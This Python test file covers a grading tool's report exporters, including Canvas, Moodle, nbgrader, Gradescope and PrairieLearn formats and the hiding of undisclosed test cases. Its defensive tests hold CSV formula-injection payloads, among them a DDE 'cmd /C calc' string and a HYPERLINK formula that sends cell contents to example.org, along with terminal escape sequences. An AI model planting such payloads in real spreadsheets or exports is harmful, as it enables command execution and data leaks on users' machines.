"""Reports as other systems read them, against the fields that these publish."""

import csv
import io
import json
from dataclasses import replace
from types import SimpleNamespace

import jsonschema
import pytest

from hapticlab.course.evaluate import Outcome
from hapticlab.course.exercise import Case, Exercise
from hapticlab.errors import CourseError
from hapticlab.grading.formats import FORMATS, write
from hapticlab.grading.handed_in.roster import read_roster
from hapticlab.grading.marking import Found, exercise_report
from hapticlab.grading.report import ExerciseReport, Failing, Report
from hapticlab.grading.sessions.limits import Limits

RESULTS = [one.name for one in FORMATS.values() if one.kind == "result"]
VISIBILITY = {"enum": ["hidden", "after_due_date", "after_published", "visible"]}
TEXT_FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
TEXT, NUMBER = {"type": "string"}, {"type": "number"}
#: https://gradescope-autograders.readthedocs.io/en/latest/specs/#output-format
GRADESCOPE = {
    "type": "object",
    "additionalProperties": False,
    "anyOf": [{"required": ["score"]}, {"properties": {"tests": {"items": {"required": ["score"]}}}, "required": ["tests"]}],
    "properties": {
        "score": NUMBER, "execution_time": NUMBER, "output": TEXT, "visibility": VISIBILITY, "stdout_visibility": VISIBILITY,
        "output_format": TEXT_FORMAT, "test_output_format": TEXT_FORMAT, "test_name_format": TEXT_FORMAT,
        "extra_data": {"type": "object"}, "leaderboard": {"type": "array"},
        "tests": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "properties": {
                    "score": NUMBER, "max_score": NUMBER, "status": {"enum": ["passed", "failed"]}, "name": TEXT,
                    "name_format": TEXT_FORMAT, "number": TEXT, "output": TEXT, "output_format": TEXT_FORMAT,
                    "tags": {"type": "array", "items": TEXT}, "visibility": VISIBILITY, "extra_data": {"type": "object"},
                },
            },
        },
    },
}  # fmt: skip
#: https://prairielearn.readthedocs.io/en/latest/externalGrading/#grading-results
PRAIRIELEARN = {
    "type": "object",
    "additionalProperties": False,
    "if": {"properties": {"gradable": {"const": False}}, "required": ["gradable"]},
    "then": {"required": ["format_errors"]},
    "else": {"required": ["score"]},
    "properties": {
        "gradable": {"type": "boolean"}, "score": {"type": "number", "minimum": 0, "maximum": 1}, "message": TEXT,
        "output": TEXT, "images": {"type": "array"},
        "format_errors": {"anyOf": [TEXT, {"type": "array", "items": TEXT}]},
        "tests": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "required": ["points", "max_points"],  # without them PrairieLearn leaves the points of all tests out
                "properties": {
                    "name": TEXT, "description": TEXT, "points": NUMBER, "max_points": NUMBER, "message": TEXT, "output": TEXT,
                    "images": {"type": "array"},
                },
            },
        },
    },
}  # fmt: skip


def report(student="ada", earned=(2.0, 0.0), lab="02", **other):
    """Return a report on two exercises that carry points and one that is noted."""
    exercises = (
        ExerciseReport("held_work", "function", "the work [J]", 2.0, earned[0], True, 3, 3),
        ExerciseReport("k_own", "value", "the stiffness [N/m]", 1.5, earned[1], True, 0, 1, "3 N/m: not yet", hint="Draw it."),
        ExerciseReport("discussion", "text", answered=True, text="It leaks."),
    )
    about = {"student": student, "lab": lab, "title": "The virtual wall", "submission": "wall.ipynb", "exercises": exercises}
    return Report(**{**about, **other})


def rows(text, delimiter=","):
    """Return the rows of a CSV file as Python's csv reads them."""
    assert text[0] == "\ufeff"
    return [*csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter)]


def records(text):
    return [*csv.DictReader(io.StringIO(text[1:], newline=""))]


def test_text_of_one_says_all_and_of_a_class_a_line_each():
    one = write("text", [report(cells=((4, "NameError: name 'q' is not defined"),))])
    assert one.splitlines() == [
        "ada: 2 of 3.5 points, lab 02 The virtual wall, wall.ipynb",
        "  right      held_work (2)",
        "  wrong      k_own (1.5): 3 N/m: not yet",
        "             hint: Draw it.",
        "  noted      discussion",
        "  cell 4: NameError: name 'q' is not defined",
    ]
    lost = report("bob", (0.0, 0.0), problem="no notebook inside", exercises=())
    several = write("text", [report(), lost, report("cleo", (2.0, 1.5))]).splitlines()
    assert several[0].endswith("wrong or missing: k_own")
    assert several[1].startswith("bob: ") and several[1].endswith("could not be graded: no notebook inside")
    assert several[3:] == ["lab 02: 2 graded, mean 2.75 of 3.5 points", "1 could not be graded"]


def test_text_holds_no_command_for_a_terminal():
    hostile = "\x1b]0;owned\x07\x1b[2J\u202eada\r\x9b31m\ud800"
    text = write("text", [report(hostile, cells=((1, hostile),), problem=hostile)])
    assert "owned" in text
    assert all(letter == "\n" or letter.isprintable() for letter in text)


def test_json_holds_the_whole_and_no_nan():
    wrong = exercise_report(
        Exercise("force", points=1), [(Case({"x": 0.25}, 2.0), True)], Found((Outcome(float("nan")),)), Limits()
    )
    one = report("bob", exercises=(wrong,), cells=((2, "ValueError: x"),))
    held = json.loads(write("json", [report(), one]), parse_constant=lambda name: pytest.fail(name))["reports"]
    assert [(h["student"], h["earned"], h["points"]) for h in held] == [("ada", 2, 3.5), ("bob", 0, 1)]
    assert held[1]["exercises"][0]["failing"] == {
        "given": {"x": 0.25}, "value": "nan", "expected": 2.0, "unit": "", "public": True,
    }  # fmt: skip
    del held[0]["points"], held[0]["earned"]
    assert Report.from_json(json.dumps(held[0])) == report()


def test_csv_has_a_row_for_each_submission_and_a_column_for_each_exercise():
    first, second = records(write("csv", [report(), report("bob", (0.0, 1.1 + 0.4 - 1e-12), problem="late")]))
    assert first == {
        "student": "ada", "lab": "02", "submission": "wall.ipynb", "earned": "2", "points": "3.5", "02.held_work": "2",
        "02.k_own": "0", "failed_cells": "0", "problem": "",
    }  # fmt: skip
    assert (second["earned"], second["02.k_own"], second["problem"]) == ("1.5", "1.5", "late")
    long = records(write("csv-long", [report(), report("bob")]))
    assert [(row["student"], row["exercise"], row["state"]) for row in long[:4]] == [
        ("ada", "held_work", "right"), ("ada", "k_own", "wrong"), ("ada", "discussion", "noted"), ("bob", "held_work", "right"),
    ]  # fmt: skip
    assert long[1]["words"] == "3 N/m: not yet"


HOSTILE = (
    '=HYPERLINK("http://example.org?"&A1,"ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", 'ada","=1+1', "ada;=1+1", "ada\t=1+1", 'ada;"=1+1"', "ada'=1+1", "ada|=1+1", "ada\n=1+1", '"=1+1"', "\uff1d1+1",
    "\ufeff=1+1", "\x00=1+1",
)  # fmt: skip


def formulas(text):
    """Return the cells that a spreadsheet would run, whatever it takes for the end of a cell."""
    cells = [cell for delimiter in ",;\t|" for row in rows(text, delimiter) for cell in row]
    cells += text[1:].splitlines()
    started = [cell.lstrip(" \"'\ufeff\x00") for cell in cells if not cell.lstrip(' "\ufeff').startswith("'")]
    return [cell for cell in started if cell[:1] and cell[0] in "=+-@\t\r\uff1d"]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_table_holds_a_formula(name, tmp_path):
    roster = tmp_path / "class.csv"
    with roster.open("w", encoding="utf-8", newline="") as file:
        columns = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Email address", "last_name"]
        csv.writer(file).writerows([columns, [name, "7", name, "ada", name, name, name]])
    people, hostile = read_roster(roster), {"lab": name, "submission": name, "problem": name}
    for one in (form for form in FORMATS.values() if form.kind == "table"):
        # a system that needs a roster has no row for a stranger
        handed_in = [report("ada")] if one.needs_roster else [report(name, **hostile), report("ada")]
        assert formulas(write(one.name, handed_in, people, name)) == [], one


@pytest.mark.parametrize("name", ["=1+1", "@SUM(1,1)", " =1+1", "ada;=1+1", "ada\t=1+1", "ada|=1+1", "ada\n=1+1"])
def test_a_formula_is_found_where_nothing_is_done(name):
    naked = io.StringIO()
    csv.writer(naked, lineterminator="\n").writerows([["points", "student"], [2, name]])
    assert formulas("\ufeff" + naked.getvalue())


CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,"Lab 02 (991)",Final Score
,,,,,Manual Posting,
    Points Possible,,,,,3.5,(read only)
"Lovelace, Ada",1001,S-1,ada,Group 1,,
"Babbage, Charles",1002,S-2,cb,Group 2,,
"""


def canvas(text):
    """Read as lib/gradebook_importer.rb of instructure/canvas-lms does: points by student, and what is possible."""
    header, *lines = rows(text)
    assert "Student" in header[0] and "ID" in header[1] and len(header) > 3
    known = 4 if header[2] == "SIS Login ID" else 5
    assert header[2:known] in (["SIS Login ID", "Section"], ["SIS User ID", "SIS Login ID", "Section"])
    possible = next(row for row in lines if "Points Possible" in row[0])
    earned = {row[1]: dict(zip(header[known:], row[known:], strict=True)) for row in lines if row is not possible}
    return earned, dict(zip(header[known:], possible[known:], strict=True))


def test_canvas_reads_its_own_ids(tmp_path):
    path = tmp_path / "gradebook.csv"
    path.write_text(CANVAS, "utf-8")
    roster = read_roster(path)
    text = write("canvas", [report(), report("cb", (2.0, 1.5)), report("stranger")], roster, "Lab 02 (991)")
    earned, possible = canvas(text)
    assert earned == {"1001": {"Lab 02 (991)": "2"}, "1002": {"Lab 02 (991)": "3.5"}}
    assert possible == {"Lab 02 (991)": "3.5"}
    earned, _ = canvas(write("canvas", [report(), report(lab="03")], roster))
    assert earned == {"1001": {"Lab 02: The virtual wall": "2", "Lab 03: The virtual wall": "2"}}
    path.write_text("Student,Login\nAda,ada\n", "utf-8")
    with pytest.raises(CourseError, match="no column ID, Section"):
        write("canvas", [report()], read_roster(path))


def test_of_several_submissions_the_best_counts(tmp_path):
    path = tmp_path / "gradebook.csv"
    path.write_text(CANVAS, "utf-8")
    several = [report(), report(earned=(2.0, 1.5)), report(earned=(0.0, 1.5))]
    assert canvas(write("canvas", several, read_roster(path), "Lab"))[0] == {"1001": {"Lab": "3.5"}}
    assert [row["score"] for row in records(write("nbgrader", several))] == ["3.5"]


def test_what_could_not_be_graded_is_no_zero(tmp_path):
    path = tmp_path / "gradebook.csv"
    path.write_text("Student,ID,SIS Login ID,Section,Email address\nAda,1,ada,G,a@b.c\nBob,2,bob,G,b@b.c\n", "utf-8")
    nothing = report(earned=(0.0, 0.0))
    lost, roster = replace(nothing, problem="the grader failed: OSError: disc", grader_failed=True), read_roster(path)
    both = [lost, report("bob", (0.0, 0.0))]
    assert canvas(write("canvas", both, roster, "Lab"))[0] == {"2": {"Lab": "0"}}
    assert rows(write("moodle", both, roster, "Lab")) == [["Email address", "Lab"], ["b@b.c", "0"]]
    scores = [(row["raw_score"], row["score"], row["max_score"]) for row in records(write("nbgrader", both))]
    assert scores == [("", "", "3.5"), ("0", "0", "3.5")]
    for twice in ([lost, nothing], [nothing, lost]):  # of two submissions the one that was graded counts
        assert canvas(write("canvas", twice, roster, "Lab"))[0] == {"1": {"Lab": "0"}}
    assert canvas(write("canvas", [lost], roster, "Lab"))[0] == {}
    two_labs = canvas(write("canvas", [lost, report(lab="03")], roster))[0]
    assert two_labs == {"1": {"Lab 02: The virtual wall": "", "Lab 03: The virtual wall": "2"}}


def test_moodle_maps_by_address_or_id_number(tmp_path):
    path = tmp_path / "participants.csv"
    path.write_text("First name;Surname;ID number;Email address\nAda;Lovelace;17;Ada@Uni.edu\nBob;B;18;\n", "utf-8")
    roster = read_roster(path)
    # https://docs.moodle.org/en/Grade_import: addresses are told apart by capitals
    assert rows(write("moodle", [report()], roster, "Lab 2")) == [["Email address", "Lab 2"], ["Ada@Uni.edu", "2"]]
    both = [report("17"), report("18", (2.0, 1.5))]
    assert rows(write("moodle", both, roster, "Lab 2")) == [["ID number", "Lab 2"], ["17", "2"], ["18", "3.5"]]
    path.write_text("Name\nada\n", "utf-8")
    with pytest.raises(CourseError, match="no column Email address, ID number or Username"):
        write("moodle", [report()], read_roster(path))


def test_nbgrader_is_what_nbgrader_exports(tmp_path):
    export = pytest.importorskip("nbgrader.plugins.export").CsvExportPlugin(to=str(tmp_path / "grades.csv"))
    export.export(SimpleNamespace(assignments=()))  # a gradebook without any: the header alone
    theirs = (tmp_path / "grades.csv").read_text("utf-8").strip().split(",")
    path = tmp_path / "class.csv"
    path.write_text("login,last_name,first_name,email\nada,Lovelace,Ada,ada@uni.edu\n", "utf-8")
    (ours,) = records(write("nbgrader", [report()], read_roster(path), "lab02"))
    assert list(ours) == theirs
    assert ours == {
        "assignment": "lab02", "duedate": "", "timestamp": "", "student_id": "ada", "last_name": "Lovelace", "first_name": "Ada",
        "email": "ada@uni.edu", "raw_score": "2", "late_submission_penalty": "0", "score": "2", "max_score": "3.5",
    }  # fmt: skip
    assert records(write("nbgrader", [report()]))[0]["assignment"] == "Lab 02: The virtual wall"
    called = {"nbgrader": "02_wall", "csv-long": None}  # nbgrader alone knows an assignment by its folder
    assert {name: records(write(name, [report()], folder="02_wall"))[0].get("assignment") for name in called} == called


def test_gradescope_reads_every_field():
    held = json.loads(write("gradescope", [report(cells=((3, "ZeroDivisionError: division by zero"),))]))
    jsonschema.validate(held, GRADESCOPE)
    assert held["score"] == sum(test["score"] for test in held["tests"]) == 2
    assert [(t["name"], t["score"], t["max_score"], t["status"]) for t in held["tests"]] == [
        ("held_work", 2, 2, "passed"), ("k_own", 0, 1.5, "failed"),
    ]  # fmt: skip
    assert held["tests"][1]["output"] == "3 N/m: not yet\nHint: Draw it."
    assert "cell 3: ZeroDivisionError" in held["output"] and "discussion: noted" in held["output"]
    lost = json.loads(write("gradescope", [report(earned=(0.0, 0.0), problem="no JSON")]))
    jsonschema.validate(lost, GRADESCOPE)
    assert (lost["score"], lost["output"]) == (0, "Not graded: no JSON")
    with pytest.raises(CourseError, match="no result was written for Gradescope,.*OSError: disc"):
        write("gradescope", [report(earned=(0.0, 0.0), problem="OSError: disc", grader_failed=True)])
    named = json.loads(write("gradescope", [report(earned=(0.0, 0.0), problem="the grader failed.docx is no notebook")]))
    assert named["score"] == 0, "so a student may call a file"


def test_prairielearn_reads_every_field():
    held = json.loads(write("prairielearn", [report()]))
    jsonschema.validate(held, PRAIRIELEARN)
    assert held["score"] == pytest.approx(2 / 3.5, abs=1e-6)
    assert [(t["name"], t["points"], t["max_points"]) for t in held["tests"]] == [("held_work", 2, 2), ("k_own", 0, 1.5)]
    assert json.loads(write("prairielearn", [report(earned=(2.0, 1.5))]))["score"] == 1


@pytest.mark.parametrize(
    ("other", "gradable"),
    [
        ({"problem": "no notebook inside"}, False),
        ({"cells": ((1, "SyntaxError: invalid syntax in line 1"), (2, "IndentationError: x"))}, False),
        ({"cells": ((1, "SyntaxError: invalid syntax in line 1"), (2, "NameError: x"))}, True),
        ({"cells": ()}, True),
    ],
)
def test_prairielearn_takes_no_attempt_for_what_is_no_python(other, gradable):
    untouched = (ExerciseReport("held_work", "function", points=2.0, words="no answer"),)
    held = json.loads(write("prairielearn", [report(exercises=untouched, **other)]))
    jsonschema.validate(held, PRAIRIELEARN)
    assert held["gradable"] is gradable
    assert held.get("score", 0) == 0
    answered = report(earned=(0.0, 0.0), cells=((1, "SyntaxError: x"),))
    assert json.loads(write("prairielearn", [answered]))["gradable"] is True, "what was answered is graded"


def test_prairielearn_stays_below_a_megabyte():
    printed = "\U0001f600" * 5000
    loud = tuple(ExerciseReport(f"e{k}", "function", points=1.0, answered=True, printed=printed) for k in range(60))
    held = write("prairielearn", [report(exercises=loud)])
    assert len(held) <= 1_000_000 and len(json.loads(held)["tests"]) == 60
    many = [ExerciseReport(f"e{number}", "function", points=1.0, words="\u00e4" * 600, hint="h" * 600) for number in range(900)]
    held = write("prairielearn", [report(exercises=tuple(many))])
    assert len(held) <= 1_000_000
    jsonschema.validate(json.loads(held), PRAIRIELEARN)


@pytest.mark.parametrize("name", RESULTS)
def test_a_hidden_case_is_not_told_to_who_may_hand_in_again(name):
    def told(answer, public):
        exercise = Exercise("force", points=1, hint="Which way?")
        found = exercise_report(
            exercise, [(Case({"x": 0.0123456, "k": 654.321}, 8.0777, unit="N"), public)], Found((answer,)), Limits()
        )
        return write(name, [report(exercises=(found,))])

    shown = told(Outcome(-8.0777), public=True)
    assert "8.0777 N" in shown and "The sign is wrong." in shown
    for answer in (Outcome(-8.0777), Outcome(problem="it raises ValueError: x is 0.0123456, k is 654.321"), Outcome([0.5, 0.25])):
        text = told(answer, public=False)
        assert not [number for number in ("0123456", "654.321", "8.0777") if number in text]
        assert "A case that is not shown is wrong." in text and "Which way?" in text
    assert "The sign is wrong." in told(Outcome(-8.0777), public=False)


@pytest.mark.parametrize("name", RESULTS)
def test_a_platform_gets_one_submission(name):
    with pytest.raises(CourseError, match="2 were given"):
        write(name, [report(), report("bob")])


@pytest.mark.parametrize("name", [one.name for one in FORMATS.values() if one.needs_roster])
def test_a_learning_management_system_needs_a_roster(name):
    with pytest.raises(CourseError, match="--roster FILE.csv"):
        write(name, [report()])


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_reports_give_the_same_bytes_and_can_be_written(name, tmp_path):
    path = tmp_path / "class.csv"
    path.write_text("Student,ID,SIS Login ID,Section,Email address\nAda,1,ada,G,a@b.c\n", "utf-8")
    odd = report(cells=((1, "\ud800\x00"),), submission="\udcff.ipynb")
    first, second = (write(name, [Report.from_json(odd.to_json())], read_roster(path)) for _ in range(2))
    assert first == second
    assert "\x00" not in first and first.encode("utf-8")


def test_an_unknown_format_is_refused():
    with pytest.raises(CourseError, match="format 'xls': needs one of text, json"):
        write("xls", [report()])


#: sentences on a hidden case, and whether they are told: not those by whose numbers a student's code could pass a given on
SENTENCES = {
    "The sign is wrong.": True,
    "It is 1000 times too large: is it in millimetres?": True,
    "It is 2 times the expected value, at every point.": True,
    "It is 231.4 times the expected value, at every point.": False,
    "It is 2314 times the expected value, at every point.": False,
    "It is 1.2e-05 times the expected value, at every point.": False,
    "It lacks a factor k, so its unit is wrong. Beside that it is 0.731 times too large.": False,
    "It is 1000 times too large. In this case k = 654, so a factor k may also be missing.": False,
}


@pytest.mark.parametrize("name", RESULTS)
@pytest.mark.parametrize("sentence", SENTENCES)
def test_no_number_worked_out_of_a_hidden_case_is_told(name, sentence):
    one = ExerciseReport("force", "function", points=1, answered=True, cases=1, words=sentence, slip=sentence)
    hidden = write(name, [report(exercises=(replace(one, failing=Failing({}, 1.0, 2.0, "N", public=False)),))])
    public = write(name, [report(exercises=(replace(one, failing=Failing({}, 1.0, 2.0, "N", public=True)),))])
    assert (sentence in hidden) is SENTENCES[sentence] and sentence in public
